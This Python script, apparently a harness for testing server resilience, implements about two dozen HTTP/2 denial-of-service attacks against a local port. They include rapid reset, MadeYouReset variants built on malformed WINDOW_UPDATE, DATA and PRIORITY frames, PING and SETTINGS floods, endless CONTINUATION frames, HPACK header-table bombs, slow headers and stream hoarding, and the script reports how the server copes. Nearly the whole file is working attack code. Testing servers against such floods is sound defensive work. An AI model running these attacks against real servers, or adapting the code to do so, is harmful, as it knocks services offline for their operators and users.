#!/usr/bin/python3
"""Attacks on a server of HTTP/2, each on one connection, as fast as the socket takes it.

    h2_attack.py NAME PORT SECONDS

A connection that the server ends is followed by another, at most RECONNECTS a second. Says at its end, a name and a number on each line:
"units" a second that the socket took, "connections"; of the first connection "lasted" (s until GOAWAY with an error, or the end) and "goaway" (its
code; -1: none came); "answers", "resets" and among them "refused" a second that came from the server.
"""

import contextlib
import itertools
import select
import socket
import sys
import time
from collections import Counter
from dataclasses import dataclass, field

import hpack
from hyperframe import frame as h2

from h2_client import ANY_WINDOW, RECEIVE_BYTES, WIDE, Frames, asks, fields, opening, reset, wire

RECONNECTS = 10
BATCH_BYTES = 1 << 16
FRAME_BYTES = 1 << 14  # as servers have it until they say otherwise
MARK = 0x7a5a5a5b  # stands for a stream
MARK_BYTES = MARK.to_bytes(4, "big")
HELD, PROXIED, PLAIN = "/10m.txt", "/1k", "/return"
HELD_STREAMS = 100
CANCEL, REFUSED = 8, 7
WINDOW = h2.SettingsFrame.INITIAL_WINDOW_SIZE
ENTRY = 4000
MANY, SOME, FEW = 16000, 4000, 7  # in a frame; within most limits on bytes, but not on a table's sizes; within both
FIRST_DYNAMIC = b"\xbe"


@dataclass(frozen=True)
class Attack:
    """What is sent: the opening once, then the unit with one stream after the other in place of MARK: new ones, or so many by turns."""
    name: str
    about: str
    unit: bytes
    opening: bytes = b""
    settings: dict = field(default_factory=lambda: {WINDOW: 0})
    wider_by: int = WIDE
    turns: int = 0
    first: int = 1
    hears: bool = True
    pause_s: float = 0

    @property
    def batch(self):
        return 1 if self.pause_s else max(1, BATCH_BYTES // len(self.unit))

    def units(self):
        pieces = self.unit.split(MARK_BYTES)
        streams = itertools.cycle(range(1, 2 * self.turns, 2)) if self.turns else itertools.count(self.first, 2)
        return (stream.to_bytes(4, "big").join(pieces) for stream in streams)


def then(*frames, path=HELD):
    """A request, and what comes of it at once."""
    return wire(asks(MARK, fields(path)), *frames)


def requests(count, block, first=1):
    return wire(*(asks(first + 2 * number, block) for number in range(count)))


def bomb(name, times, header, value, flood=True):
    """Requests that refer so often to a header in the dynamic table. As many as can be, or HELD_STREAMS; no window ever opens for an answer."""
    block = fields(HELD)
    first = wire(asks(1, block + hpack.Encoder().encode([(header, value)])))
    full = block + FIRST_DYNAMIC * times
    about = f"{times} times the same {header} of {len(value)} bytes in each request"
    if flood:
        return Attack(name, about, wire(asks(MARK, full)), first, first=3)
    return Attack(name, f"{about}, {HELD_STREAMS} are held", b"", first + requests(HELD_STREAMS - 1, full, first=3), pause_s=1)


def slow():
    block = fields(PLAIN) + b"\x00\x01x\x7f\xa1\x1e"  # a literal of 4 000 bytes
    return Attack("slow", "a byte a second of one block of headers", b"a", wire(asks(1, block + b"a" * ENTRY))[:-ENTRY], pause_s=1)


def headers_without_end(block):
    return wire(h2.HeadersFrame(1, data=block, flags=["END_STREAM"]))


X_HEADERS = (b"\x00\x01x\x7e" + b"a" * 126) * (FRAME_BYTES // 130)
ATTACKS = {attack.name: attack for attack in (
    Attack("rapid", "rapid reset: HEADERS and RST_STREAM", then(h2.RstStreamFrame(MARK, error_code=CANCEL))),
    Attack("rapid-proxied", "the same for what is proxied", then(h2.RstStreamFrame(MARK, error_code=CANCEL), path=PROXIED)),
    Attack("made-zero", "MadeYouReset: WINDOW_UPDATE of 0", then(h2.WindowUpdateFrame(MARK, window_increment=0))),
    Attack("made-overflow", "MadeYouReset: a window over 2^31-1", then(h2.WindowUpdateFrame(MARK, window_increment=ANY_WINDOW)),
           settings={WINDOW: ANY_WINDOW}, wider_by=1),
    Attack("made-data", "MadeYouReset: DATA after END_STREAM", then(h2.DataFrame(MARK, data=b"x", flags=["END_STREAM"]))),
    Attack("made-headers", "MadeYouReset: HEADERS after END_STREAM", then(asks(MARK, fields(HELD)))),
    Attack("made-self", "MadeYouReset: PRIORITY on itself", then(h2.PriorityFrame(MARK, depends_on=MARK, stream_weight=1))),
    Attack("made-length", "MadeYouReset: PRIORITY of four bytes", then(h2.ExtensionFrame(h2.PriorityFrame.type, MARK, flag_byte=0, body=b"\0\0\0\0"))),
    Attack("made-proxied", "MadeYouReset: WINDOW_UPDATE of 0, for what is proxied", then(h2.WindowUpdateFrame(MARK, window_increment=0), path=PROXIED)),
    Attack("ping", "PING", wire(h2.PingFrame(0, opaque_data=b"12345678"))),
    Attack("ping-deaf", "PING, and answers are not read", wire(h2.PingFrame(0, opaque_data=b"12345678")), hears=False),
    Attack("settings", "SETTINGS", wire(h2.SettingsFrame(0, settings={WINDOW: 0}))),
    Attack("settings-deaf", "SETTINGS, and answers are not read", wire(h2.SettingsFrame(0, settings={WINDOW: 0})), hears=False),
    Attack("priority", "PRIORITY of ever new streams", wire(h2.PriorityFrame(MARK, depends_on=0, stream_weight=1))),
    Attack("empty-data", "DATA without data", wire(h2.DataFrame(1, data=b"")), wire(asks(1, fields(PROXIED, "POST"), ends=False))),
    Attack("continuation", "CONTINUATION without end, full of headers", wire(h2.ContinuationFrame(1, data=X_HEADERS)), headers_without_end(fields(PLAIN))),
    Attack("continuation-empty", "CONTINUATION without end and content", wire(h2.ContinuationFrame(1, data=b"")), headers_without_end(fields(PLAIN))),
    bomb("bomb", MANY, "x", "a" * ENTRY),
    bomb("bomb-cookie", MANY, "cookie", "a" * ENTRY),
    bomb("bomb-small", SOME, "x", "a", flood=False),
    bomb("bomb-crumbs", SOME, "cookie", "a", flood=False),
    bomb("bomb-held", FEW, "x", "a" * ENTRY, flood=False),
    Attack("hoard", f"{HELD_STREAMS} times 10 MiB, by windows of a byte", wire(h2.WindowUpdateFrame(MARK, window_increment=1)),
           requests(HELD_STREAMS, fields(HELD)), turns=HELD_STREAMS),
    Attack("hoard-deaf", f"{HELD_STREAMS} times 10 MiB into open windows, and nothing is read", b"", requests(HELD_STREAMS, fields(HELD)),
           settings={WINDOW: ANY_WINDOW}, hears=False, pause_s=1),
    slow(),
)}


class Attacker:
    """One attack. counts: of bytes that were sent, and of frames that came; lasted, goaway: of the first connection."""

    def __init__(self, attack, port):
        self.attack, self.port = attack, port
        self.counts = Counter()
        self.connections = 0
        self.code = self.lasted = self.goaway = None

    def run(self, seconds):
        begun = time.monotonic()
        until = begun + seconds
        while (started := time.monotonic()) < until:
            self.connections += 1
            self.code = -1
            self._connection(until)
            if self.lasted is None:
                self.lasted, self.goaway = time.monotonic() - started, self.code
            time.sleep(max(0, min(started + 1 / RECONNECTS, until) - time.monotonic()))
        return time.monotonic() - begun

    def _connection(self, until):
        with contextlib.closing(socket.socket()) as sock:
            frames = Frames()
            try:
                sock.connect(("127.0.0.1", self.port))
                sock.setblocking(False)
                self._send(sock, frames, until)
            except OSError:  # it is closed; what came before can still be read
                with contextlib.suppress(OSError):
                    while self._hear(sock, frames):
                        pass
            reset(sock)

    def _send(self, sock, frames, until):
        units = self.attack.units()
        pending = memoryview(opening(self.attack.settings, self.attack.wider_by) + self.attack.opening)
        self.counts["bytes"] -= len(pending)  # of units, that is
        while (now := time.monotonic()) < until:
            if not pending and not self.attack.pause_s:
                pending = self._more(units)
            wait_s = until - now if pending else min(self.attack.pause_s, until - now)
            readable, writable, _ = select.select([sock] if self.attack.hears else [], [sock] if pending else [], [], wait_s)
            if readable and not self._hear(sock, frames):
                return
            if writable:
                sent = sock.send(pending)
                self.counts["bytes"] += sent
                pending = pending[sent:]
            elif not readable:
                pending = pending or self._more(units)

    def _more(self, units):
        return memoryview(b"".join(itertools.islice(units, self.attack.batch)))

    def _hear(self, sock, frames):
        """Whether the connection goes on."""
        if not (data := sock.recv(RECEIVE_BYTES)):
            return False
        for kind, _, _, payload in frames.feed(data):
            if kind == h2.RstStreamFrame.type:
                self.counts["resets"] += 1
                self.counts["refused"] += payload[3] == REFUSED
            elif kind == h2.HeadersFrame.type:
                self.counts["answers"] += 1
            elif kind == h2.GoAwayFrame.type:
                self.code = int.from_bytes(payload[4:8], "big")
        return self.code <= 0


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    attacker = Attacker(ATTACKS[name], port)
    took = attacker.run(seconds)
    print("lasted", attacker.lasted)
    print("goaway", attacker.goaway)
    print("connections", attacker.connections)
    print("units", max(0, attacker.counts["bytes"]) / len(attacker.attack.unit) / took if attacker.attack.unit else 0)
    for count in ("answers", "resets", "refused"):
        print(count, attacker.counts[count] / took)


if __name__ == "__main__":
    main()
